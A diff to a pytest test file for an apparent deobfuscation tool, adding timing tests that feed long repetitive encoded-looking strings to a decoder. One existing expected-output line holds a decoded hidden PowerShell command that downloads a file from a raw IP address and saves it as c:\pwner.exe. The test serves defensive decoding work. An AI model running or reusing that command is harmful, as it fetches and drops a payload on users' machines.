@@ -9,6 +9,7 @@ import hashlib
 import lzma
 import random
 import string
+import time
 import zlib
 
 import pytest
@@ -236,3 +237,29 @@ def test_the_demonstrations_command():
             "powershell.exe -nop -w hidden -encodedcommand <decoded type='string' name='[None]' index='1' depth='1'>"
             'Invoke-WebRequest -Uri "http://38.75.137.9:9088/static/encrypt.min.js" -OutFile "c:\\pwner.exe"</decoded>'
         )
+
+
+LONG = {
+    "separators": "a/" * 200_000,
+    "separators of the other alphabet": "Ab-_" * 100_000,
+    "one run": "A" * 400_000,
+    "runs that begin like text": "SGVsbG8 " * 50_000,
+    "lines of base64 of zeros": "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n" * 8_000,
+    "lines that end like text": "SGVsbG8gd29ybGQhSGVsbG8gd29ybGQhSGVsbG8gd29ybGQh\nx" * 8_000,
+    "bytes apart": "41 " * 130_000,
+    "bytes as code": "0x41," * 80_000,
+    "escapes": "\\x41" * 100_000,
+    "switches": "-e -enc /e " * 36_000,
+    "pipes": "| base64 -d " * 33_000,
+    "padding": "=" * 400_000,
+    "line breaks": "\r\n" * 200_000,
+    "mixed": "aB3/" * 100_000,
+    "magic": "H4sIAAAA " * 45_000,
+}
+
+
+@pytest.mark.parametrize("case", LONG)
+def test_long_texts_take_time_by_their_length(case):
+    begin = time.process_time()
+    unpack_text(LONG[case])
+    assert time.process_time() - begin < 10
